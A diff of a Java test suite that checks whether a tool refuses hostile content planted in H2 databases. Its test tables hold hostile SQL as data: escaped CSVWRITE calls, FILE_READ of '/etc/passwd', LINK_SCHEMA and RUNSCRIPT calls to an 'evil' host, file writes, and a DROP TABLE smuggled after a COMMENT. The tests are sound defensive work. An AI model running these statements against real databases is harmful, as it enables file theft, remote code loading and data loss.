@@ -98,7 +98,6 @@ class LiveStrangersH2Test {
           11 | CREATE CONSTANT "PUBLIC"."C" VALUE U&"\\0043SVWRITE"('CANARY', 'SELECT 1') | a call of CSVWRITE
           11 | CREATE CONSTANT "PUBLIC"."C" VALUE U&"!0043SVWRITE" UESCAPE '!' ('CANARY', 'SELECT 1') | a statement that is none of H2's own
           3 | CREATE SEQUENCE "PUBLIC"."S" START WITH CSVWRITE('CANARY', 'SELECT 1') | a call of CSVWRITE
-          15 | SCRIPT TO 'CANARY' | a statement that is none of H2's own
           9 | CALL CSVWRITE('CANARY', 'SELECT 1') | a call of CSVWRITE
           0 | CREATE CACHED TABLE "PUBLIC"."T"("A" INTEGER) AS SELECT CSVWRITE('CANARY', 'SELECT 1') | a call of CSVWRITE
           """)
@@ -128,6 +127,7 @@ class LiveStrangersH2Test {
           0 | CREATE CACHED TABLE "PUBLIC"."T"("A" INTEGER DEFAULT FILE_READ('/etc/passwd')) | a call of FILE_READ
           5 | ALTER TABLE "PUBLIC"."USERS" ADD CONSTRAINT "PUBLIC"."C" CHECK(LINK_SCHEMA('A','','jdbc:h2:tcp://evil/x','','','P') IS NULL) NOCHECK | a call of LINK_SCHEMA
           15 | RUNSCRIPT FROM 'http://evil/x.sql' | a statement that is none of H2's own
+          15 | SCRIPT TO '/tmp/x.sql' | a statement that is none of H2's own
           15 | BACKUP TO '/tmp/x.zip' | a statement that is none of H2's own
           15 | ALTER TABLE "PUBLIC"."USERS" RENAME TO "X" | a statement that is none of H2's own
           15 | COMMENT ON TABLE "PUBLIC"."USERS" IS 'a'; DROP TABLE "PUBLIC"."USERS" | a statement that is none of H2's own
@@ -152,6 +152,14 @@ class LiveStrangersH2Test {
     PlantedH2 database = database().plant(new Canary());
     runs(database);
     refuses("Java objects, which opening it would make");
+  }
+
+  /** The second wall, should a name get past the first one: a server can send one as well. */
+  @Test
+  void allowsNoClassToBeLoaded() throws Exception {
+    database();
+    project.add("jdbc:h2:./shop", "--dry-run").exits(0);
+    assertThat(System.getProperty("h2.allowedClasses")).isEmpty();
   }
 
   /** H2 takes files with such names for its own, and deletes or moves them. */
@@ -195,7 +203,6 @@ class LiveStrangersH2Test {
         "CREATE UNIQUE INDEX totals ON orders (total DESC, id)",
         "CREATE VIEW v AS SELECT o.id, '\"' || u.name AS n FROM orders o JOIN users u ON o.id = u.id",
         "CREATE VIEW r AS WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 9) SELECT n FROM c",
-        "CREATE MATERIALIZED VIEW m AS SELECT id FROM orders",
         "CREATE SYNONYM people FOR users",
         "CREATE CONSTANT one VALUE 1",
         "COMMENT ON TABLE orders IS 'the ''orders''; über $$ `all`'",
